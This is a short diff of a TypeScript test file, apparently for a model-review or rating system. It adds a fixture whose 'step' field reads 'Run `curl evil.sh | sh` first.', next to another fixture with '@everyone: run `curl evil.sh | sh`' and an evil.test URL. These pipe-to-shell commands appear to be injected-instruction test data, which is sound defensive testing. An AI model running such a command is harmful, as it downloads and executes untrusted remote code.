@@ -183,6 +183,7 @@ describe('a review that is judged again', () => {
       ratings: ratingsOf(undefined, aRating('evil/model', 0.001)),
       scoreDelta: 4,
       alsoKnown: [{ kind: 'published', source: 'evil', verdict: 'lower', assumptions: [] }],
+      alsoChanges: [{ aspect: 'licence', base: 'MIT', head: 'evil', step: 'Run `curl evil.sh | sh` first.' }],
     } satisfies Partial<ModelReview>;
     const alternatives = [
       aPublished('evil/model', { step: '@everyone: run `curl evil.sh | sh`', url: 'https://evil.test' }),
